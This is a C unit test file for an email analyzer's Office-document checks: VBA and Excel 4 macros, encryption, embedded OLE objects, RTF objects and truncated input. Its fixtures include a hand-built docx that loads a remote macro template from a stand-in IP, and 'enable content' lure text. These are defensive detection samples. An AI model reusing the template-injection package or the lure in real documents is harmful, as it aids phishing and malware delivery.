/* Unit tests for analyzers/payloads/office.c: OOXML and OLE2 documents run through
 * the attachment walk (as attachments of a hand-built message), mostly over
 * oletools' real test documents in ../shared/corpora/oletools_testdata, plus
 * a few packages made here with libzip for cases the corpus lacks (remote
 * template injection, Japanese lure text) and the macro_doc.eml sample. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "checks/analyze.h"
#include "payloads/attachments.h"
#include "testlib.h"

#include <string.h>
#include <zip.h>

#define CORPUS "../shared/corpora/oletools_testdata/"

/* ---- helpers ---- */

/* The report of a message whose one attachment is these bytes. */
static ks_report *analyze_bytes(const char *filename, GBytes *data)
{
	ks_context *ctx = ks_context_new();
	ks_report *r = analyze_attachment("application/octet-stream", filename, data, ctx);
	ks_context_free(ctx);
	return r;
}

static ks_report *analyze_file(const char *rel)
{
	g_autofree char *path = g_strconcat(CORPUS, rel, NULL);
	g_autoptr(GBytes) data = read_bytes(path);
	g_autofree char *base = g_path_get_basename(rel);
	return analyze_bytes(base, data);
}

static ks_attachment *top(ks_report *r)
{
	assert_true(r->attachments->len >= 1);
	return g_ptr_array_index(r->attachments, 0);
}

/* A zip of (name, text) pairs, NULL-terminated. */
static GBytes *make_zip(const char *const *members)
{
	g_autoptr(GArray) m = g_array_new(FALSE, FALSE, sizeof(zip_member_spec));
	for (const char *const *p = members; *p; p += 2) {
		zip_member_spec one = {p[0], p[1], strlen(p[1])};
		g_array_append_val(m, one);
	}
	return zip_build((const zip_member_spec *)(void *)m->data, (int)m->len);
}

static const char content_types[] =
	"<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/"
	"content-types\"><Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>";

/* ---- VBA ---- */

static void docm_with_vba_project_raises_vba_macro_and_names_modules(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = analyze_file("oleform/oleform-PR314.docm");
	const ks_finding *f = find_rule(r, KS_RULE_OFFICE_VBA_MACRO);
	assert_non_null(f);
	assert_non_null(strstr(f->evidence, "word/vbaProject.bin"));
	assert_string_equal(f->location, "part:2");
	const char *modules = ks_attachment_get_meta(top(r), "vba_modules");
	assert_non_null(modules);
	assert_non_null(strstr(modules, "ThisDocument"));
	assert_string_equal(ks_attachment_get_meta(top(r), "office_format"), "ooxml");
	assert_null(find_rule(r, KS_RULE_INPUT_MALFORMED));
}

static void ppt_with_vba_raises_vba_macro(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = analyze_file("olevba/sample_with_vba.ppt");
	const ks_finding *f = find_rule(r, KS_RULE_OFFICE_VBA_MACRO);
	assert_non_null(f);
	assert_non_null(strstr(f->evidence, "VBAInfoContainer"));
	assert_string_equal(ks_attachment_get_meta(top(r), "office_format"), "ole2");
}

static void clean_documents_raise_no_vba_macro(void **state)
{
	(void)state;
	static const char *const clean[] = {
		"msodde/harmless-clean.docx", "msodde/harmless-clean.doc",
		"msodde/harmless-clean.docm", "oleobj/embedded-simple-2007.docx",
		"msodde/dde-test.xlsx",       "oleobj/embedded-simple-2007.xls",
	};
	for (size_t i = 0; i < G_N_ELEMENTS(clean); i++) {
		g_autoptr(ks_report) r = analyze_file(clean[i]);
		if (find_rule(r, KS_RULE_OFFICE_VBA_MACRO))
			fail_msg("%s: unexpected office.vba_macro", clean[i]);
		if (find_rule(r, KS_RULE_OFFICE_REMOTE_TEMPLATE))
			fail_msg("%s: unexpected office.remote_template", clean[i]);
	}
}

static void macro_doc_sample_raises_vba_macro(void **state)
{
	(void)state;
	ks_context *ctx = ks_context_new();
	g_autoptr(GError) err = NULL;
	g_autoptr(ks_report) r = ks_analyze_file("samples/macro_doc.eml", ctx, &err);
	ks_context_free(ctx);
	assert_non_null(r);
	assert_true(ks_report_has_finding(r, KS_RULE_OFFICE_VBA_MACRO));
	assert_false(ks_report_has_finding(r, KS_RULE_INPUT_MALFORMED));
}

/* ---- Excel 4 macros ---- */

static void xls_macro_sheet_is_listed(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = analyze_file("excel4-macros/excel4_sample_macro.xls");
	const char *sheets = ks_attachment_get_meta(top(r), "excel4_macro_sheets");
	assert_non_null(sheets);
	assert_true(strlen(sheets) > 0);
}

static void xlsm_macrosheet_part_is_listed(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = analyze_file("excel4-macros/excel4_sample_macro.xlsm");
	const char *sheets = ks_attachment_get_meta(top(r), "excel4_macro_sheets");
	assert_non_null(sheets);
	assert_non_null(strstr(sheets, "sheet1.xml"));
	assert_null(find_rule(r, KS_RULE_OFFICE_VBA_MACRO));
}

static void worksheet_only_xls_lists_no_macro_sheet(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = analyze_file("oleobj/embedded-simple-2007.xls");
	assert_null(ks_attachment_get_meta(top(r), "excel4_macro_sheets"));
}

/* ---- encryption ---- */

static void encrypted_documents_are_marked_encrypted(void **state)
{
	(void)state;
	static const char *const files[] = {
		"encrypted/encrypted.docx", "encrypted/encrypted.xlsm", "encrypted/encrypted.doc",
		"encrypted/encrypted.xls",  "encrypted/encrypted.ppt",
	};
	for (size_t i = 0; i < G_N_ELEMENTS(files); i++) {
		g_autoptr(ks_report) r = analyze_file(files[i]);
		ks_attachment *a = top(r);
		if (!a->encrypted || g_strcmp0(ks_attachment_get_meta(a, "encrypted"), "true") != 0)
			fail_msg("%s: not marked encrypted", files[i]);
		assert_non_null(ks_attachment_get_meta(a, "encryption"));
	}
}

static void plain_document_is_not_marked_encrypted(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = analyze_file("msodde/harmless-clean.doc");
	assert_false(top(r)->encrypted);
	assert_null(ks_attachment_get_meta(top(r), "encrypted"));
}

/* ---- remote loads ---- */

static void external_ole_object_link_raises_remote_template_with_url_ioc(void **state)
{
	(void)state;
	g_autoptr(ks_report) r =
		analyze_file("oleobj/external_link/sample_with_external_link_to_doc.docx");
	const ks_finding *f = find_rule(r, KS_RULE_OFFICE_REMOTE_TEMPLATE);
	assert_non_null(f);
	assert_non_null(strstr(f->evidence, "oleObject"));
	assert_non_null(strstr(f->evidence, "word/_rels/document.xml.rels"));
	assert_true(has_ioc(r, KS_IOC_URL,
	                    "https://raw.githubusercontent.com/decalage2/oletools/master/tests/"
	                    "test-data/msodde/harmless-clean.doc"));
	assert_true(has_ioc(r, KS_IOC_DOMAIN, "raw.githubusercontent.com"));
}

static void attached_template_over_http_raises_remote_template(void **state)
{
	(void)state;
	const char *const members[] = {
		"[Content_Types].xml", content_types,
		"word/document.xml", "<w:document><w:body><w:p><w:r><w:t>Hi</w:t></w:r></w:p>"
		                     "</w:body></w:document>",
		"word/_rels/settings.xml.rels",
		"<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/"
		"package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas."
		"openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
		"Target=\"http://198.51.100.7/tpl/invoice.dotm\" TargetMode=\"External\"/>"
		"<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
		"2006/relationships/hyperlink\" Target=\"https://example.org/help\" "
		"TargetMode=\"External\"/></Relationships>",
		NULL,
	};
	g_autoptr(GBytes) docx = make_zip(members);
	g_autoptr(ks_report) r = analyze_bytes("invoice.docx", docx);
	const ks_finding *f = find_rule(r, KS_RULE_OFFICE_REMOTE_TEMPLATE);
	assert_non_null(f);
	assert_non_null(strstr(f->evidence, "attachedTemplate"));
	assert_non_null(strstr(f->evidence, "http://198.51.100.7/tpl/invoice.dotm"));
	assert_true(has_ioc(r, KS_IOC_URL, "http://198.51.100.7/tpl/invoice.dotm"));
	assert_true(has_ioc(r, KS_IOC_IP, "198.51.100.7"));
	/* a hyperlink is an IOC, not a remote load */
	assert_true(has_ioc(r, KS_IOC_DOMAIN, "example.org"));
	int remote = 0;
	for (guint i = 0; i < r->findings->len; i++)
		remote += ((ks_finding *)g_ptr_array_index(r->findings, i))->rule ==
		          KS_RULE_OFFICE_REMOTE_TEMPLATE;
	assert_int_equal(remote, 1);
	assert_non_null(strstr(ks_attachment_get_meta(top(r), "external_targets"), "hyperlink"));
}

static void internal_relationships_are_not_remote(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = analyze_file("msodde/harmless-clean.docx");
	assert_null(find_rule(r, KS_RULE_OFFICE_REMOTE_TEMPLATE));
	assert_null(ks_attachment_get_meta(top(r), "external_targets"));
}

/* ---- embedded objects, lures, RTF ---- */

static void embedded_ole_object_becomes_a_child(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = analyze_file("oleobj/embedded-simple-2007.docx");
	ks_attachment *a = top(r);
	assert_int_equal(a->children->len, 1);
	ks_attachment *child = g_ptr_array_index(a->children, 0);
	assert_string_equal(child->filename, "oleObject1.bin");
	assert_string_equal(child->path, "2/1");
	assert_int_equal(strlen(child->sha256), 64);
	/* the object is an OLE Package: its Ole10Native payload is judged too */
	assert_true(child->children->len >= 1);
	ks_attachment *payload = g_ptr_array_index(child->children, 0);
	assert_non_null(payload->filename);
	assert_true(payload->size > 0);
}

static void lure_split_across_runs_is_found(void **state)
{
	(void)state;
	const char *const members[] = {
		"[Content_Types].xml", content_types,
		"word/document.xml",
		"<w:document><w:body><w:p><w:r><w:t>上の「コンテンツ</w:t></w:r><w:r><w:t>"
		"の有効化」を押してください</w:t></w:r></w:p><w:p><w:r><w:t>Please ENABLE "
		"</w:t></w:r><w:r><w:t>Editing</w:t></w:r></w:p></w:body></w:document>",
		NULL,
	};
	g_autoptr(GBytes) docx = make_zip(members);
	g_autoptr(ks_report) r = analyze_bytes("請求書.docx", docx);
	const char *lure = ks_attachment_get_meta(top(r), "lure");
	assert_non_null(lure);
	assert_non_null(strstr(lure, "コンテンツの有効化"));
	assert_non_null(strstr(lure, "enable editing"));
}

static void rtf_object_classes_are_listed(void **state)
{
	(void)state;
	static const char rtf[] = "{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}"
	                          "\\objw380{\\*\\objdata 0105000002000000}}}";
	g_autoptr(GBytes) data = g_bytes_new_static(rtf, sizeof rtf - 1);
	g_autoptr(ks_report) r = analyze_bytes("a.rtf", data);
	assert_string_equal(ks_attachment_get_meta(top(r), "office_format"), "rtf");
	assert_string_equal(ks_attachment_get_meta(top(r), "rtf_objclass"), "Equation.3");
	assert_string_equal(ks_attachment_get_meta(top(r), "rtf_objects"), "1");
}

/* ---- hostile input ---- */

static void truncated_ole_file_is_malformed_not_fatal(void **state)
{
	(void)state;
	g_autofree char *text = NULL;
	gsize len = 0;
	assert_true(g_file_get_contents(CORPUS "msodde/harmless-clean.doc", &text, &len, NULL));
	g_autoptr(GBytes) cut = g_bytes_new(text, 1000);
	g_autoptr(ks_report) r = analyze_bytes("cut.doc", cut);
	assert_non_null(find_rule(r, KS_RULE_INPUT_MALFORMED));
	assert_null(find_rule(r, KS_RULE_OFFICE_VBA_MACRO));
}

static void walk_dir(const char *dir, int *count)
{
	g_autoptr(GDir) d = g_dir_open(dir, 0, NULL);
	assert_non_null(d);
	const char *name;
	while ((name = g_dir_read_name(d))) {
		g_autofree char *path = g_build_filename(dir, name, NULL);
		if (g_file_test(path, G_FILE_TEST_IS_DIR)) {
			walk_dir(path, count);
			continue;
		}
		g_autofree char *text = NULL;
		gsize len = 0;
		assert_true(g_file_get_contents(path, &text, &len, NULL));
		g_autoptr(GBytes) data = g_bytes_new(text, len);
		g_autoptr(ks_report) r = analyze_bytes(name, data);
		assert_int_equal(r->attachments->len, 1);
		(*count)++;
		/* every prefix cut of the document is input too */
		if (len > 4096) {
			g_autoptr(GBytes) half = g_bytes_new(text, len / 2);
			g_autoptr(ks_report) r2 = analyze_bytes(name, half);
			assert_int_equal(r2->attachments->len, 1);
		}
	}
}

static void every_corpus_document_goes_through(void **state)
{
	(void)state;
	int count = 0;
	walk_dir(CORPUS, &count);
	assert_true(count >= 100);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(docm_with_vba_project_raises_vba_macro_and_names_modules),
		cmocka_unit_test(ppt_with_vba_raises_vba_macro),
		cmocka_unit_test(clean_documents_raise_no_vba_macro),
		cmocka_unit_test(macro_doc_sample_raises_vba_macro),
		cmocka_unit_test(xls_macro_sheet_is_listed),
		cmocka_unit_test(xlsm_macrosheet_part_is_listed),
		cmocka_unit_test(worksheet_only_xls_lists_no_macro_sheet),
		cmocka_unit_test(encrypted_documents_are_marked_encrypted),
		cmocka_unit_test(plain_document_is_not_marked_encrypted),
		cmocka_unit_test(external_ole_object_link_raises_remote_template_with_url_ioc),
		cmocka_unit_test(attached_template_over_http_raises_remote_template),
		cmocka_unit_test(internal_relationships_are_not_remote),
		cmocka_unit_test(embedded_ole_object_becomes_a_child),
		cmocka_unit_test(lure_split_across_runs_is_found),
		cmocka_unit_test(rtf_object_classes_are_listed),
		cmocka_unit_test(truncated_ole_file_is_malformed_not_fatal),
		cmocka_unit_test(every_corpus_document_goes_through),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
